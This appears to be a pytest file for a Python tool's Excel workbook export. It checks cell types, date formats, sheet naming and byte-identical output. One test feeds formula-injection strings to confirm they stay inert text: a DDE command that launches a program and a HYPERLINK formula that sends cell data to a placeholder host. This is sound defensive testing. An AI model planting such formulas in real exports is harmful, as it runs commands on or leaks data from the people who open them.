"""Workbooks hold what the records say: texts that run nothing, numbers as numbers, days as days."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from extractions import extraction, measure, target

from parcli import messages, model
from parcli.compare import compare
from parcli.errors import StoreError
from parcli.render import sheets, workbook

openpyxl = pytest.importorskip("openpyxl", reason="pip install 'parcli[xlsx]'")


@pytest.fixture(autouse=True)
def in_english(monkeypatch):
    monkeypatch.setenv("PARCLI_LANG", "en")


def opened(made):
    return openpyxl.load_workbook(io.BytesIO(workbook.data(made)))


def column(sheet, head):
    [letter] = [cell.column_letter for cell in sheet[1] if cell.value == head]
    return [cell.value for cell in sheet[letter][1:]]


def sheet_of(*values):
    return workbook.Sheet("Targets", ["Value"], [[value] for value in values])


@pytest.mark.parametrize(
    ("value", "kind", "stored"),
    [
        (Decimal("2.5"), "n", 2.5),
        (95, "n", 95),
        (date(2025, 12, 31), "d", datetime(2025, 12, 31)),
        (date(1899, 12, 31), "s", "1899-12-31"),
        ("95", "s", "95"),
        (["một", "hai"], "s", "một\nhai"),
        ("", "n", None),
        (None, "n", None),
    ],
)
def test_a_value_keeps_its_kind(value, kind, stored):
    cell = opened([sheet_of(value)]).active["A2"]

    assert (cell.data_type, cell.value) == (kind, stored)


@pytest.mark.parametrize(
    "text",
    [
        "=1+2",
        '=cmd|"/c calc"!A1',
        '=HYPERLINK("http://x.example/?"&A1)',
        "+1+2",
        "-1-2",
        "@SUM(A1)",
        "＝1+2",
        "#N/A",
    ],
)
def test_a_text_is_never_a_formula_also_when_it_is_edited(text):
    cell = opened([sheet_of(text)]).active["A2"]

    assert (cell.data_type, cell.value) == ("s", text)
    assert cell.quotePrefix is (text != "#N/A")


def test_what_acts_on_a_reader_is_left_out():
    cell = opened([sheet_of("Trên \x1b[31m95%\x07\u202e hồ sơ\x9b\n_x0041_")]).active["A2"]

    # What stands for a character in the file is spelled out; openpyxl hands it on as it is written.
    assert cell.value == "Trên [31m95% hồ sơ _x005F_x0041_"


@pytest.mark.parametrize(("lang", "shown"), [("en", "yyyy-mm-dd"), ("vi", "dd/mm/yyyy")])
def test_days_show_as_people_of_the_language_write_them(lang, shown, monkeypatch):
    monkeypatch.setenv("PARCLI_LANG", lang)

    assert opened([sheet_of(date(2025, 12, 31))]).active["A2"].number_format == shown


@pytest.mark.parametrize(
    ("value", "shown"), [(2_500_000_000_000, "#,##0"), (2025, "General"), (0.5, "General")]
)
def test_only_large_numbers_stand_in_groups(value, shown):
    assert opened([sheet_of(value)]).active["A2"].number_format == shown


def test_the_head_stays_in_view_and_filters():
    sheet = opened([sheet_of("một", "hai")]).active

    assert (sheet.freeze_panes, sheet.auto_filter.ref, sheet.print_title_rows) == ("A2", "A1:A3", "$1:$1")
    assert sheet["A1"].font.bold


@pytest.mark.parametrize(("text", "least", "most"), [("a", 6, 8), ("a" * 30, 30, 34), ("a" * 3000, 60, 60)])
def test_a_column_is_as_wide_as_its_texts_within_bounds(text, least, most):
    assert least <= opened([sheet_of(text)]).active.column_dimensions["A"].width <= most


def test_sheets_have_names_that_the_format_allows():
    made = [workbook.Sheet(name, ["a"], []) for name in ("a/b:c", "A b c", "", "'" + "x" * 40, "x" * 40)]

    assert opened(made).sheetnames == ["a b c", "A b c (2)", "-", "x" * 31, "x" * 27 + " (2)"]


def test_rows_beyond_what_a_sheet_holds_go_on_in_a_further_one(monkeypatch):
    monkeypatch.setattr(workbook, "_ROWS", 4)
    book = opened([sheet_of(*range(7))])

    assert book.sheetnames == ["Targets", "Targets (2)", "Targets (3)"]
    assert [[cell.value for cell in sheet["A"]] for sheet in book] == [
        ["Value", 0, 1, 2],
        ["Value", 3, 4, 5],
        ["Value", 6],
    ]


def test_a_text_longer_than_a_cell_holds_is_cut():
    assert len(opened([sheet_of("a" * 40_000)]).active["A2"].value) == 32_767


def test_the_same_sheets_are_the_same_bytes():
    first, second = (workbook.data([sheet_of("một", 2, date(2025, 1, 1))]) for _ in range(2))

    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {member.date_time for member in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b"1980-01-01" in archive.read("docProps/core.xml")


def test_without_its_engine_it_says_what_to_install(monkeypatch):
    monkeypatch.setitem(__import__("sys").modules, "openpyxl", None)
    with pytest.raises(StoreError, match=r"pip install 'parcli\[xlsx\]'"):
        workbook.data([sheet_of("một")])


# Records


def promise(**changes):
    deadline = model.Deadline(
        kind="by", start=None, end=date(2025, 12, 31), text="đến năm 2025", origin="clause", span=None
    )
    agency = model.Agency(id="so-noi-vu", name="Sở Nội vụ", role="lead", span=None)
    return target(**{"deadline": deadline, "agencies": (agency,), **changes})


def test_targets_stand_on_a_sheet_for_each_question():
    book = opened(
        sheets.targets([extraction("", promise(), promise(start=9, flags=("no-indicator",), agencies=()))])
    )

    assert book.sheetnames == ["Targets", "By agency", "To check", "Documents"]
    assert column(book["Targets"], "Value") == [95, 95]
    assert column(book["Targets"], "Ends") == [datetime(2025, 12, 31)] * 2
    assert column(book["By agency"], "Agencies") == ["Sở Nội vụ"]
    assert column(book["To check"], "Flags") == ["no-indicator"]
    assert column(book["Documents"], "Id") == ["hung-yen-2023"]


def test_a_comparison_tells_apart_what_changed_and_what_one_side_says():
    before = extraction("", promise(), promise(start=9, indicator="egov.case-files"), id="a")
    after = extraction("", promise(measure=measure(value=Decimal(98))), id="b")
    found = compare([before, after])
    book = opened(sheets.comparison(found))

    assert book.sheetnames == ["Comparison", "What changed", "On one side only", "Sides"]
    assert column(book["What changed"], "a: Value") == [95]
    assert column(book["What changed"], "b: Value") == [98]
    assert column(book["What changed"], "Change") == [3]
    assert column(book["On one side only"], "b: Value") == [None]
    assert column(book["Comparison"], "Asks for more") == [None, "b"]


def test_heads_and_names_of_sheets_are_in_the_language_of_the_reader(monkeypatch):
    monkeypatch.setenv("PARCLI_LANG", "vi")
    book = opened(sheets.targets([extraction("", promise())]))

    assert book.sheetnames == ["Chỉ tiêu", "Theo cơ quan", "Cần kiểm tra", "Văn bản"]
    assert [cell.value for cell in book.active[1]][:3] == [
        "Văn bản",
        "Mục",
        messages.text("column.indicator-name"),
    ]
